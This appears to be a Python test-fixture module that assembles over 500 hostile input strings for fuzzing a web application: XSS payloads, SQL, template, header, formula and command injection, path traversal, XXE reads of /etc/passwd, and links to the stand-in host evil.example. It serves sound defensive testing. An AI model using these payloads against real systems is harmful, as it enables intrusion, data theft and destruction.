"""Texts that break badly written programs: at least 500, made of what ends a context and what begins another.

Whatever runs calls `zq()` and whatever is inserted carries the attribute `zq`, so that a test finds it again.
"""

import unicodedata
from itertools import product

# What ends the place in which a text may stand ...
_ENDS = (
    "", "\"'>", '">', "'>", "</td></tr></table>", "</title>", "</textarea>", "</option></select>", "-->", "]]>",
    "</style>", "</script>", "</noscript>", "\\\">", "&quot;>", "</svg>",
)  # fmt: skip
# ... and what begins something there.
_BEGINS = (
    "<script zq>zq()</script>", "<script zq src=//evil.example/x.js></script>", "<img zq src=x onerror=zq()>",
    "<svg zq onload=zq()>", "<svg zq><animate onbegin=zq() attributeName=x dur=1s>", "<body zq onload=zq()>",
    "<iframe zq srcdoc='<script>parent.zq()</script>'></iframe>", "<details zq open ontoggle=zq()>x</details>",
    "<input zq autofocus onfocus=zq()>", "<a zq href=javascript:zq()>x</a>", "<base zq href=//evil.example/>",
    "<meta zq http-equiv=refresh content='0;url=javascript:zq()'>", "<form zq action=//evil.example/><button>x</button>",
    "<style zq>*{background:url(//evil.example)}</style>", "<math zq><mtext></form><form><mglyph><style></math><img src onerror=zq()>",
    "<video zq><source onerror=zq()></video>", "<object zq data=javascript:zq()></object>", "<embed zq src=javascript:zq()>",
    "<link zq rel=stylesheet href=//evil.example/x.css>", "<marquee zq onstart=zq()>x</marquee>",
    "<template zq><img src=x onerror=zq()></template>", "<!--zq--!><img src=x onerror=zq()>",
)  # fmt: skip
_IN_ATTRIBUTES = [
    f"{quote}{gap}{handler}{quote}"
    for quote, gap, handler in product(
        ("\"", "'", "`", ""), (" ", "\t", "\n", "/", "\f"),
        ("onfocus=zq() autofocus zq=", "onmouseover=zq() zq=", "style=position:fixed;inset:0 zq=", "accesskey=x onclick=zq() zq="),
    )
]  # fmt: skip
_DISGUISED = [
    "<ScRiPt zq>zq()</sCrIpT>", "<script\x0czq>zq()</script>", "<script/zq>zq()</script >", "<<script zq>zq()//<</script>",
    "<scr<script>ipt zq>zq()</scr</script>ipt>", "<img zq src=x onerror\x0a=\x0azq()>", "<img zq src=x onerror=&#122;&#113;()>",
    "<img/zq/src=x/onerror=zq()>", "<img zq src=x onerror=zq`1`>", "＜script zq＞zq()＜/script＞", "<ſcript zq>zq()</ſcript>",
    "<ıframe zq>", "<svg zq><script>zq&lpar;&rpar;</script>", "<svg zq><a xlink:href=javascript:zq()><text y=9>x", "%3Cscript zq%3Ezq()%3C/script%3E",
    "&lt;script zq&gt;zq()&lt;/script&gt;", "\\u003cscript zq\\u003ezq()\\u003c/script\\u003e", "\\x3cscript zq\\x3ezq()", "<img zq src='x' onerror='zq()'/ >",
    "<x zq onclick=zq()>", "<a zq href='java\tscript:zq()'>x</a>", "<a zq href=' javascript:zq()'>x</a>", "<a zq href=data:text/html,<script>zq()</script>>x</a>",
    "javascript:zq()", "JaVaScRiPt:zq()", "java\nscript:zq()", "data:text/html;base64,PHNjcmlwdD56cSgpPC9zY3JpcHQ+", "vbscript:zq()", "//evil.example/x", "\\\\evil.example\\x",
    "';zq();//", "\";zq();//", "`;zq();//", "${zq()}", "'-zq()-'", "\\';zq();//", "</script><script zq>zq()//", "<!--<script>", "*/zq()/*", "\u2028zq()\u2029",
    "<![CDATA[<script zq>zq()</script>]]>", "<?xml version='1.0'?><x zq/>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x zq>&e;</x>",
    "<!ENTITY % p SYSTEM 'http://evil.example/'> %p;", "&e;&e;&e;", "&#0;&#x110000;&#xD800;", "&nbsp;&amp;&lt;&quot;", "&NotEqualTilde;", "&copy", "&#60;script zq&#62;",
]  # fmt: skip
_TEMPLATES = [
    "{{7*7}}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% raw %}", "{%include '/etc/passwd'%}", "{{ request.environ }}", "{# x #}", "{{", "}}", "{%", "%}", "{{'a'*99999999}}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(name)s", "%(count)s %(nothing)s", "%s%s%s%s%s%n", "%d", "%", "%%", "100%", "%1$s", "{}", "{0}", "{0.__class__}", "{name}", "{self.__init__.__globals__}", "{:>99999}", "$name ${name}", "f'{7*7}'",
]  # fmt: skip
_DATABASE = [
    "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "'; DROP TABLE visit;--", "1; DELETE FROM venue", "') UNION SELECT 1,2,3--", "' AND pg_sleep(9)--", "x' AND 1=(SELECT count(*) FROM account)--", "\\'; --", "%' ESCAPE '!", "a_b%c", "LIKE '%'", "[a-z]",
    "'||(SELECT version())||'", "$$;DROP TABLE visit;$$", "1e309", "NaN", "Infinity", "-0", "0x1F", "9223372036854775808", "-1", "00000000000000000000001", "1_000", "１２３", "٣٤٥", "²³", "½", "NULL", "null", "None", "undefined", "true", "E'\\\\x00'", "\\x", "\\N", "\\.", "{1,2}", "{\"a\":1}",
]  # fmt: skip
_FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "=IMPORTXML(\"http://evil.example\",\"//a\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "\"=1+1", "'=1+1", ";=1+1", ",=1+1", "|=1+1", "a,=1+1", "a;=1+1\tb", "\ufeff=1+1", "\u200b=1+1", "\u00a0=1+1", "%0A=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "-An", "+84912345678", "=", "@", "a\"b", "a\"\"b", "\"", "\"\"\"", "a,b;c\td|e",
]  # fmt: skip
_HEADERS = [
    "x\r\nSet-Cookie: zq=1", "x\nLocation: //evil.example", "x\r\n\r\n<script zq>zq()</script>", "x%0d%0aSet-Cookie:%20zq=1", "x\u560a\u560dSet-Cookie: zq=1", "x\x0bSet-Cookie: zq", "x\x85y", "x\u2028y", "attachment; filename=\"x\"; filename*=UTF-8''y",
    "evil.example", "http://evil.example/", "https:evil.example", "///evil.example", "/\\evil.example", "/%2f/evil.example", "/lookup/?next=//evil.example", "?a=b&c=d#e", "a&b=c", "a=b;c=d", "#", "/", ".", "..", "%00", "%2e%2e%2f",
]  # fmt: skip
_PATHS = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd%00.png", "....//....//etc/passwd", "file:///etc/passwd", "C:\\CON", "NUL", "aux.txt", ".htaccess", "x.py", "~root", "`id`", "$(id)", "; id", "| id", "&& id", "x\nid", "-rf /", "--help", "@/etc/passwd", "*", "?", "[!a]",
]  # fmt: skip
_UNSEEN = [
    "\x00", "a\x00b", "\x01\x02\x03", "\x7f", "\x1b[31mđỏ\x1b[0m", "\x08\x08\x08", "\u200b", "\u200b\u200c\u200d", "a\u200bb", "\ufeff", "\u00ad", "\u2060", "\u180e", "\u3164", "\u2800", "\u115f\u1160", "\u034f", "\ufffe", "\uffff", "\ufffd", "\ud800", "a\udfffb", "\U000e0001\U000e0041", "\U0010ffff",
    "\u202eđảo ngược", "\u202dabc\u202c", "\u2066abc\u2069", "a\u202e\u2066b", "\u200fabc", "שלום \u202eabc", "مرحبا بالعالم", "Nguyễn \u202eنامه", "\u061c", "\u206a", "a\u0300\u202e<b zq>",
]  # fmt: skip
_MARKS = [
    "a" + "\u0301" * 5, "a" + "\u0301" * 500, "Z" + "\u0335\u0336\u0338" * 100, "\u0301", "\u0f73" * 60, "a\u20dd\u20e3", "ệ" * 3 + "\u0323" * 50, "\u1ab0" * 9, "e\u0302\u0301", "e\u0301\u0302", "ự" + "\u031b" * 20, "ก็็็็็็็็็็็็็็", "กั่้้้้", "\u0c1c\u0c4d\u200c\u0c1e\u0c3e",
]  # fmt: skip
_SCRIPTS = [
    "👨‍👩‍👧‍👦", "👩🏽‍⚕️", "🇻🇳", "🇻", "1️⃣", "🏴\U000e0067\U000e0062\U000e007f", "😀" * 60, "👨‍" * 40, "❤️‍🔥", "☃\ufe0f\ufe0e", "中文名字", "山田太郎", "김철수", "Ольга", "Ιωάννης", "ธนาคาร", "ᠮᠣᠩᠭᠣᠯ", "𝐍𝐠𝐮𝐲𝐞̂̃𝐧", "Ｎｇｕｙễｎ", "ℕ𝓰𝖚𝔶ễ𝕟", "ﬁ ﬂ ﬃ", "ß ẞ", "İstanbul ısı", "Ǆ ǅ ǆ", "ŉ", "Ω Ω", "K K", "Å Å", "\u1e9e", "ΌΣΟΣ ὀδυσσεύς", "㋿ ㍿", "﷽", "𒐫", "꧅", "ー" * 50,
]  # fmt: skip
_NAMES = [
    "Nguyễn Thị Ánh Tuyết", "Hòa Hoà", "Trần Đình Đức", "D'Artagnan O’Neil", "Nguyễn-Lê Thị", "Null", "An", "Ê", "Ô", "Y", "Nguyễn Văn A.", "Ths. BS. Trần B", "“Bình”", "‘Chi’", "Lò Thị Sải (Mế)", "H'Hen Niê", "K’Lịu", "A Lù & con", "Đỗ < Đặng", "x > y", "a & b", "Tom & Jerry's", "1 < 2 > 0",
    "Phở 24/7", "Cà phê #1", "50% giảm", "C++", "AT&T", "Quán \"Ngon\"", "Ăn\u00a0Ở", "Nguyễn  Văn   Hai", " đầu cuối ", "tab\tgiữa", "dòng\nmới", "Nguye\u0302\u0303n", "Hoa\u0300", "ĐỖ", "đỗ", "Ðỗ", "ð", "Ɖ", "Hưng Hùng Hũng", "Thị " * 40,
]  # fmt: skip
_LONG = [
    "W" * 100, "i" * 200, "Thươngmạidịchvụxuấtnhậpkhẩuvậntảibiểnquốctế" * 4, "x" * 2_000, "ữ" * 5_000, "a " * 3_000, "-" * 300, "_" * 300, "." * 300, "/" * 300, "\u00a0" * 300, "<" * 1_000, "&" * 1_000, "\"" * 1_000, "{" * 500, "(" * 500, "[" * 500, "<b zq>" * 300, "<div zq>" * 400, "&amp;" * 200, "9" * 400, "1" * 5_000, "https://" + "a" * 300 + ".example/" + "b" * 300, "%" * 500, "\\" * 500, "'" * 500, "ﷺ" * 100, "𠜎" * 100, "Ａ" * 200,
]  # fmt: skip
_OTHER = [
    "[]", "[1,2]", "{}", "{\"login\":{\"$gt\":\"\"}}", "{\"a\":[[[[]]]]}", "\"x\"", "__proto__", "constructor", "toString", "__class__", "csrf_token", "y", "on", "undefined[]", "a[]=1", "a.b.c", "2026-02-30", "2026-13-01T25:61", "0000-00-00", "9999-12-31T23:59", "10000-01-01", "-0001-01-01", "1970-01-01T00:00", "2038-01-19", "29/02/2025", "24:00", "7:5", "١٢:٣٠", "20:26-11-22", "1985.0", "1985e0", "０９１２３４５６７８",
    "0912 345 67８", "+84 (0) 912.345.678", "tel:0912345678", "113", "022185001234|x|y|z", "|" * 30, "022185001234|100123456|<img zq src=x onerror=zq()>|02091985|Nữ|x|10052021", "00000000-0000-0000-0000-000000000000", "{00000000-0000-7000-8000-000000000000}", "urn:uuid:00000000-0000-7000-8000-000000000000", "F0-0001' --", "F0-99999999999999999999", "F0-１", "K7QF3M2P9XD%00", "k7qf-3m2p-9xd", "xn--80ak6aa92e.com", "a@b", "a@b@c", "\"a b\"@example.vn", "a@[127.0.0.1]", "a@example.vn\nBcc: b@example.vn", "ａ@example.vn", "a@пример.рф", "mailto:a@example.vn?bcc=b",
    "<zq@example.vn>", "Tổ 5, Khu 2; Hồng Hải | Hạ Long", "EICAR-như-thật", "(?:a+)+$", "a" * 40 + "!", "((((((((((a*)*)*)*)*)*)*)*)*)*", "^(([a-z])+.)+[A-Z]([a-z])+$", "\\p{L}+", "\\", "\\\\", "\\0", "\\u0000", "\\ud83d", "0b1", "0o7", "01", "+0", "1,000.00", "1.000,00", "١", "Ⅻ", "五", "x=1&x=2",
]  # fmt: skip


# Ends every context at once, and is short enough for every field.
POLYGLOT = "\"'></title></textarea></select></svg><img zq onerror=zq()>"


def _all() -> list[str]:
    crossed = [end + begin for end, begin in product(_ENDS, _BEGINS)]
    parts = (
        crossed, _IN_ATTRIBUTES, _DISGUISED, _TEMPLATES, _DATABASE, _FORMULAS, _HEADERS, _PATHS, _UNSEEN, _MARKS, _SCRIPTS, _NAMES, _LONG, _OTHER,
    )  # fmt: skip
    found = [POLYGLOT, *(text for part in parts for text in part)]
    # The same letters composed otherwise are other strings, which must be taken for the same name.
    found += [unicodedata.normalize("NFD", text) for text in _NAMES] + [
        unicodedata.normalize("NFKD", text) for text in _SCRIPTS
    ]
    return list(dict.fromkeys(found))


HOSTILE = _all()
# Every kind, at every so many: what a short run sends.
SAMPLE = HOSTILE[::9]
assert len(HOSTILE) >= 500
